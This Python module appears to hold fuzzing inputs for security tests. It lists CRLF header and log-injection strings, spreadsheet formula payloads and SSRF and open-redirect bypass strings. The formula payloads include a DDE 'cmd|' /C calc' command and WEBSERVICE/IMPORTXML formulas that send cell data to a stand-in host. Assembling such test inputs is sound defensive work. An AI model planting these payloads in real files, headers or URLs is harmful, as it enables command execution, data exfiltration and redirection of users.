"""Words that want to be something else: lines of a header or a log, formulas, hosts, addresses, tokens of another kind."""

from __future__ import annotations

ENDS = (
    "\r\n",
    "\n",
    "\r",
    "\n\n",
    "\r\n\r\n",
    "\x0b",
    "\x0c",
    "\x1c",
    "\x1e",
    "\x85",
    "\u2028",
    "\u2029",
    "\n ",
    "\r\n\t",
    "%0d%0a",
    "\\r\\n",
)
"""What one reader or another takes for the end of a line."""
SMUGGLED = ("X-Smuggled: 1", "Set-Cookie: a=b", "Bcc: all@smuggled.example", "Content-Length: 0")
LINES = [f"Tides{end}{header}" for end in ENDS for header in SMUGGLED]
LOG_LINES = [
    *(f"Tides{end}{line}" for end in ENDS for line in ('{"event": "smuggled", "level": "info"}', "INFO root smuggled")),
    *(
        f"Tides{sign}smuggled"
        for sign in ("\x1b[2K\x1b[1A", "\x9b2K", "\x08" * 8, "\x7f", "\u202e", "\u2066", "\u200f", "\ufeff", "\0")
    ),
]
FORMULAS = [
    f"{before}{sign}{rest}"
    for before, sign, rest in [
        *(("", sign, "1+1") for sign in "=+-@|%"),
        *(("", sign, "1+1") for sign in "＝＋－＠﹦﹢﹣﹫"),
        *(
            (blank, "=", "1+1")
            for blank in (" ", "\t", "\r", "\n", "\r\n", "\x0b", "\x0c", "\0", "\x1f", "\u00a0", "\u2003", "\u3000")
        ),
        *(
            (hidden, "=", "1+1")
            for hidden in ("\ufeff", "\u200b", "\u200e", "\u202e", "\u2066", "\u00ad", "\u2028", "\u2029")
        ),
        ("", "=", "cmd|' /C calc'!A0"),
        ("", "=", 'HYPERLINK("http://smuggled.example","x")'),
        ("", "=", 'WEBSERVICE("http://smuggled.example/"&A1)'),
        ("", "=", 'IMPORTXML(CONCAT("http://smuggled.example/",A1),"//a")'),
        ("", "+", "2+5+cmd|' /C calc'!A0"),
        ("", "-", "2+3+cmd|' /C calc'!A0"),
        ("", "@", "SUM(1+1)*cmd|' /C calc'!A0"),
        ("", "=", '1","=2'),
        ("", "=", "1\n=2"),
    ]
]
HOSTS = [
    "smuggled.example", "smuggled.example:80", "smuggled.example:8080", "127.0.0.1.smuggled.example", "localhost.smuggled.example",
    "127.0.0.1@smuggled.example", "smuggled.example@127.0.0.1", "127.0.0.1:80@smuggled.example", "127.0.0.1#smuggled.example",
    "127.0.0.1/smuggled.example", "127.0.0.1?smuggled.example", "127.0.0.1\\smuggled.example", "127.0.0.1 smuggled.example",
    "127.0.0.1,smuggled.example", "127.0.0.1;smuggled.example", "127.0.0.1:smuggled.example", "[smuggled.example]", "[::1].smuggled.example",
    "[::1]smuggled.example", "smuggled.example.", "xlocalhost", "localhostx", "local host", "127.0.0.10", "127.0.0.2", "127.1", "2130706433",
    "0x7f.1", "0.0.0.0", "[::]", "[::ffff:127.0.0.1]", "*", ".", "..", "-", "_", "http://127.0.0.1", "//127.0.0.1", "127.0.0.1%00",
    "127.0.0.1%2e", "smuggled.example%23.localhost", "localhost\t", "<b>127.0.0.1</b>",
]  # fmt: skip
TARGETS = [
    "https://smuggled.example", "http://smuggled.example/", "//smuggled.example", "///smuggled.example", "////smuggled.example",
    "/\\smuggled.example", "\\/smuggled.example", "\\\\smuggled.example", "/\\/smuggled.example", "\\smuggled.example",
    "/\t/smuggled.example", "/\n/smuggled.example", "/\r/smuggled.example", "\t//smuggled.example", " //smuggled.example", "\x00//smuggled.example",
    "/\x00/smuggled.example", "/\x0b/smuggled.example", "\x1f//smuggled.example", "\u00a0//smuggled.example", "javascript:alert(1)",
    "JavaScript:alert(1)", "java\nscript:alert(1)", "data:text/html,x", "vbscript:x", "mailto:a@smuggled.example", "ftp://smuggled.example",
    "https:smuggled.example", "https:/smuggled.example", "https:///smuggled.example", "http:\\\\smuggled.example", "@smuggled.example",
    "smuggled.example", ".smuggled.example", "?next=//smuggled.example", "#//smuggled.example", "", " ", "..//smuggled.example",
    "https://127.0.0.1@smuggled.example", "https://127.0.0.1.smuggled.example", "／／smuggled.example", "/requests\r\nLocation: //smuggled.example",
    "/requests\nSet-Cookie: a=b", "file:///etc/passwd", "blob:https://smuggled.example/x", "view-source:https://smuggled.example",
]  # fmt: skip
